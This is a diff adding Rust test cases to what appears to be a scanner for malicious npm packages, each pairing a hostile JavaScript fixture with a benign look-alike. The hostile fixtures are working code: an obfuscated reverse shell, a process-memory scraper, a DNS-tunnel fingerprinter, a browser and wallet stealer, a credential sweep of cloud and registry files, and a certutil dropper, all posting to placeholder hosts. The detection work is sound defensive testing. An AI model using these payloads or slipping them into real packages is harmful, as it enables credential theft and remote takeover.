@@ -248,3 +248,236 @@ function getConfig(url, cb) {
     let fixture = Fixture::with_postinstall("node setup.js", &[("setup.js", loader)]);
     assert_eq!(strongest(&fixture, "DSCA802"), Some(Severity::Critical));
 }
+
+// CI runner memory scraping (THREATS: `/proc/<pid>/mem` of `Runner.Worker`).
+
+#[test]
+fn another_process_memory_read_at_install_and_sent_is_critical() {
+    let scraper = r#"const fs = require('fs');
+const https = require('https');
+function dump(pid) {
+  const fd = fs.openSync(`/proc/${pid}/mem`, 'r');
+  const buf = Buffer.alloc(4096);
+  fs.readSync(fd, buf, 0, 4096, 0);
+  return buf.toString('latin1');
+}
+const req = https.request({ host: 'collect.example', method: 'POST' });
+req.end(dump(process.argv[2]));
+"#;
+    let fixture = Fixture::with_postinstall("node scrape.js", &[("scrape.js", scraper)]);
+    assert_eq!(strongest(&fixture, "DSCA801"), Some(Severity::Critical));
+}
+
+#[test]
+fn a_process_monitor_reading_proc_stat_collects_no_secret() {
+    // The pidusage shape: CPU and memory use of a child, read from /proc/<pid>/stat.
+    let monitor = r#"const fs = require('fs');
+const https = require('https');
+function usage(pid) {
+  const stat = fs.readFileSync(`/proc/${pid}/stat`, 'utf8').split(' ');
+  const mem = fs.readFileSync('/proc/meminfo', 'utf8');
+  return { utime: stat[13], mem: mem.length };
+}
+https.request({ host: 'metrics.example', method: 'POST' }).end(JSON.stringify(usage(process.pid)));
+"#;
+    let fixture = with_main(&[("index.js", monitor)]);
+    assert_eq!(strongest(&fixture, "DSCA801"), None);
+    assert_eq!(strongest(&fixture, "DSCA807"), None);
+}
+
+// `require` reached through feature tests (THREATS: aliases and computed names).
+
+#[test]
+fn require_found_through_a_global_or_the_module_loader_still_loads_net_and_a_shell() {
+    let hidden = r#";(function () {
+  var g = typeof global !== 'undefined' ? global : this;
+  var r = g['req' + 'uire'] || (process['main' + 'Module'] && process['main' + 'Module']['req' + 'uire'].bind(process['main' + 'Module']));
+  if (typeof r !== 'function') r = module.constructor._load.bind(module.constructor);
+  var n = r(['n', 'e', 't'].join(''));
+  var c = r('chi' + 'ld_pro' + 'cess');
+  var s = new n['Soc' + 'ket']();
+  s.connect(4430, '203.0.113.88', function () {
+    var p = c['sp' + 'awn']('/bin/' + 'sh', []);
+    s.pipe(p.stdin);
+    p.stdout.pipe(s);
+  });
+})();
+"#;
+    let fixture = with_main(&[("index.js", hidden)]);
+    assert_eq!(strongest(&fixture, "DSCA804"), Some(Severity::Critical));
+}
+
+#[test]
+fn a_umd_bundle_feature_testing_require_is_no_reverse_shell() {
+    let umd = r#"var load = typeof require === 'function' ? require : null;
+var fs = (load || function () { return null; })('fs');
+var defaults = process.env.CONFIG_FILE || 'config.json';
+module.exports = function read() { return fs && fs.readFileSync(defaults, 'utf8'); };
+"#;
+    let fixture = with_main(&[("index.js", umd)]);
+    assert_eq!(strongest(&fixture, "DSCA804"), None);
+    assert_eq!(strongest(&fixture, "DSCA805"), None);
+}
+
+// Strings moved into an array and handed out by an accessor (THREATS: `_0x` hex strings).
+
+#[test]
+fn modules_named_through_a_string_array_accessor_are_resolved() {
+    let appended = r#"module.exports = function merge(a, b) { return Object.assign({}, a, b); };
+;(function(){var _0x1b=['\x6f\x73','\x68\x74\x74\x70\x73','\x68\x6f\x73\x74\x6e\x61\x6d\x65','\x75\x73\x65\x72\x49\x6e\x66\x6f','\x6d\x2e\x65\x78\x61\x6d\x70\x6c\x65'];
+var _0x2c=function(i){i=i-0x2;var x=_0x1b[i];return x;};
+var o=require(_0x2c(2)),h=require(_0x2c(3));
+var d=Buffer.from(JSON.stringify({h:o[_0x2c(4)](),u:o[_0x2c(5)]().username,e:process.env})).toString('base64');
+var q=h.request({hostname:_0x2c(6),method:'POST'});q.end(d);})();
+"#;
+    let fixture = with_main(&[("index.js", appended)]);
+    assert!(strongest(&fixture, "DSCA801") >= Some(Severity::High));
+}
+
+#[test]
+fn a_lookup_table_read_by_index_is_no_concealment() {
+    let table = r#"const MONTHS = ['January', 'February', 'March', 'April'];
+function monthName(i) { return MONTHS[i - 1]; }
+const https = require('https');
+module.exports = function report(n) {
+  https.request({ hostname: 'api.example', method: 'POST' }).end(JSON.stringify({ month: monthName(1), n }));
+};
+"#;
+    let fixture = with_main(&[("index.js", table)]);
+    assert_eq!(strongest(&fixture, "DSCA801"), None);
+    assert_eq!(strongest(&fixture, "DSCA805"), None);
+}
+
+// DNS tunnelling through a resolver instance (THREATS: DNS exfiltration).
+
+#[test]
+fn a_fingerprint_sent_through_a_dns_resolver_instance_at_install_is_critical() {
+    let tunnel = r#"const { Resolver } = require('dns');
+const os = require('os');
+const r = new Resolver();
+const label = Buffer.from(os.hostname() + ':' + os.userInfo().username).toString('hex');
+r.resolve4(`${label}.t.collect.example`, () => {});
+"#;
+    let fixture = Fixture::with_postinstall("node probe.js", &[("probe.js", tunnel)]);
+    assert_eq!(strongest(&fixture, "DSCA801"), Some(Severity::Critical));
+}
+
+#[test]
+fn a_health_check_resolving_a_configured_host_sends_nothing() {
+    let check = r#"const { Resolver } = require('dns');
+const r = new Resolver();
+r.setServers(['192.0.2.53']);
+module.exports = (host, cb) => r.resolve4(host, cb);
+"#;
+    let fixture = with_main(&[("index.js", check)]);
+    assert_eq!(strongest(&fixture, "DSCA801"), None);
+}
+
+// A stealer's target list read in a loop (THREATS: browser logins, Discord, wallets).
+
+#[test]
+fn a_list_of_stealer_targets_read_and_posted_from_main_is_critical() {
+    let stealer = r#"import os from 'node:os';
+import { readFile } from 'node:fs/promises';
+import { join } from 'node:path';
+const targets = ['AppData/Local/Google/Chrome/User Data/Default/Login Data',
+  'AppData/Roaming/discord/Local Storage/leveldb/000005.ldb', 'AppData/Roaming/Exodus/exodus.wallet/seed.seco'];
+async function run() {
+  const form = new FormData();
+  for (const t of targets) {
+    try { form.append(t, new Blob([await readFile(join(os.homedir(), t))])); } catch {}
+  }
+  await fetch('https://assets.example/u', { method: 'POST', body: form });
+}
+run();
+"#;
+    let fixture = with_main(&[("index.js", stealer)]);
+    assert_eq!(strongest(&fixture, "DSCA801"), Some(Severity::Critical));
+}
+
+#[test]
+fn an_http_client_with_a_cookies_route_collects_nothing() {
+    // One stealer-looking name (a `/cookies` route) beside config reads and requests.
+    let client = r#"const fs = require('fs');
+const config = JSON.parse(fs.readFileSync('./client.json', 'utf8'));
+module.exports = async function sync() {
+  const res = await fetch(config.base + '/cookies', { method: 'POST', body: JSON.stringify(config.jar) });
+  return res.json();
+};
+"#;
+    let fixture = with_main(&[("index.js", client)]);
+    assert_eq!(strongest(&fixture, "DSCA801"), None);
+}
+
+// A credential sweep in a child an ES module starts from its own folder at import.
+
+#[test]
+fn a_credential_sweep_in_a_worker_an_es_module_spawns_is_critical() {
+    let starter = r#"import { spawn } from 'node:child_process';
+import { fileURLToPath } from 'node:url';
+import path from 'node:path';
+const here = path.dirname(fileURLToPath(import.meta.url));
+spawn(process.execPath, [path.join(here, 'worker.cjs')], { detached: true, stdio: 'ignore' }).unref();
+"#;
+    let worker = r#"const os = require('os'), fs = require('fs'), path = require('path'), https = require('https');
+const targets = ['.npmrc', '.git-credentials', '.aws/credentials', '.kube/config'];
+const out = {};
+for (const t of targets) { try { out[t] = fs.readFileSync(path.join(os.homedir(), t), 'utf8'); } catch (e) {} }
+https.request({ host: 'stats.example', method: 'POST' }).end(JSON.stringify(out));
+"#;
+    let fixture =
+        Fixture::tarball(json!({"name": "demo-pkg", "version": "1.0.0", "main": "index.mjs"}))
+            .file("index.mjs", starter.as_bytes())
+            .file("worker.cjs", worker.as_bytes());
+    assert_eq!(strongest(&fixture, "DSCA801"), Some(Severity::Critical));
+}
+
+#[test]
+fn a_cli_doctor_listing_credential_files_is_not_critical() {
+    // A command the user runs checks which tools are configured and reports a count.
+    let doctor = r#"#!/usr/bin/env node
+const os = require('os'), fs = require('fs'), path = require('path'), https = require('https');
+const files = ['.npmrc', '.git-credentials', '.aws/credentials', '.kube/config'];
+const present = files.filter((f) => { try { fs.readFileSync(path.join(os.homedir(), f)); return true; } catch { return false; } });
+https.request({ host: 'telemetry.example', method: 'POST' }).end(JSON.stringify({ configured: present.length }));
+"#;
+    let fixture = Fixture::tarball(json!({"name": "demo-pkg", "version": "1.0.0",
+        "bin": {"doctor": "bin/doctor.js"}}))
+    .file("bin/doctor.js", doctor.as_bytes());
+    assert!(strongest(&fixture, "DSCA801") < Some(Severity::Critical));
+}
+
+// Windows droppers run through a wrapper (THREATS: certutil, bitsadmin from a raw IP).
+
+fn level(fixture: &Fixture) -> dsca_model::VerdictLevel {
+    dsca_model::Verdict::from_findings(&fixture.analyse_code().findings).level
+}
+
+#[test]
+fn certutil_fetching_an_exe_from_a_bare_address_at_install_is_malicious() {
+    let dropper = r#"const cp = require('child_process'), path = require('path'), os = require('os');
+const exe = path.join(os.tmpdir(), 'svc.exe');
+const run = (c) => { try { cp.execSync(c, { stdio: 'ignore' }); return true; } catch (e) { return false; } };
+if (run('certutil.exe -urlcache -split -f http://198.51.100.9/w/svc.exe "' + exe + '"')) run('"' + exe + '"');
+"#;
+    let fixture = Fixture::with_postinstall("node check.js", &[("check.js", dropper)]);
+    assert_eq!(level(&fixture), dsca_model::VerdictLevel::Malicious);
+    let hits = fixture.code_findings("DSCA809");
+    let certutil = hits[0]
+        .evidence
+        .iter()
+        .filter(|e| e.detail.contains("certutil"))
+        .count();
+    assert_eq!(certutil, 1, "one line, one reason: {hits:#?}");
+}
+
+#[test]
+fn curl_fetching_a_vendor_binary_at_install_is_not_malicious() {
+    let installer = r#"const { execSync } = require('child_process');
+const url = 'https://downloads.vendor.example/tool/v1.2.0/tool-linux-x64';
+execSync('curl -fsSL -o bin/tool ' + url);
+execSync('chmod +x bin/tool');
+"#;
+    let fixture = Fixture::with_postinstall("node fetch.js", &[("fetch.js", installer)]);
+    assert_ne!(level(&fixture), dsca_model::VerdictLevel::Malicious);
+}
